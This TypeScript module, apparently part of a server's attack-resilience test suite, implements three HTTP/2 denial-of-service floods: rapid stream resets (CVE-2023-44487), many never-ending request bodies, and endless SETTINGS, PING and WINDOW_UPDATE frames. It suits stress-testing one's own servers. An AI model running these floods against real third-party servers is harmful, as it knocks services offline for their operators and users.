/** Attacks over HTTP/2, on a server with a certificate. */
import type { TLSSocket } from 'node:tls';
import {
  headerBlock,
  openRawHttp2,
  PING,
  request,
  reset,
  SETTINGS,
  windowUpdate,
} from '../../support/rawHttp2.ts';
import type { Attack, AttackContext } from './attackContext.ts';

export const http2Attacks = {
  'streams that are reset at once (CVE-2023-44487)': async (context) => {
    const block = headerBlock('GET', '/api/session', { host: context.host });
    await context.begin();
    await onConnections(context, 30, (first) => {
      const both = odd(first, 500).flatMap((stream) => [request(stream, block, true), reset(stream)]);
      context.count('resets', 500);
      return Buffer.concat(both);
    });
  },

  '100 open streams on each of 60 connections, with bodies that never end': async (context) => {
    const block = headerBlock('POST', '/api/session', {
      host: context.host,
      'content-type': 'application/json',
    });
    await context.begin();
    await onConnections(context, 60, (first) => {
      if (first > 1) return windowUpdate(0);
      context.count('streams', 100);
      return Buffer.concat(odd(1, 100).map((stream) => request(stream, block, false)));
    });
  },

  'SETTINGS, PING and WINDOW_UPDATE without an end': async (context) => {
    const kinds = [SETTINGS, PING, windowUpdate(0)].map((one) => Buffer.concat(Array(1_000).fill(one)));
    await context.begin();
    await onConnections(context, 30, (_first, nth) => kinds[nth % 3]!);
  },
} satisfies Record<string, Attack>;

/**
 * Keeps so many connections open and writes on each what `bytes` returns, as fast as the server takes it. `first`: the id of
 * the next stream; `nth`: of the connection.
 */
async function onConnections(
  context: AttackContext,
  count: number,
  bytes: (first: number, nth: number) => Buffer,
): Promise<void> {
  const keepOpen = async (nth: number) => {
    while (!context.over()) {
      const socket = openRawHttp2(context.url, context.address(nth % 5));
      context.count('connections');
      const closed = new Promise((resolve) => socket.once('close', resolve));
      write(socket, nth);
      await Promise.race([closed, context.wait()]);
      socket.destroy();
    }
  };
  const write = (socket: TLSSocket, nth: number, first = 1) => {
    if (context.over() || socket.destroyed) return;
    socket.write(bytes(first, nth), () => setTimeout(write, 1, socket, nth, first + 1_000));
  };
  await Promise.all(Array.from({ length: count }, (_, nth) => keepOpen(nth)));
}

/** So many ids of streams: a client's are odd. */
function odd(first: number, count: number): number[] {
  return Array.from({ length: count }, (_, nth) => first + 2 * nth);
}
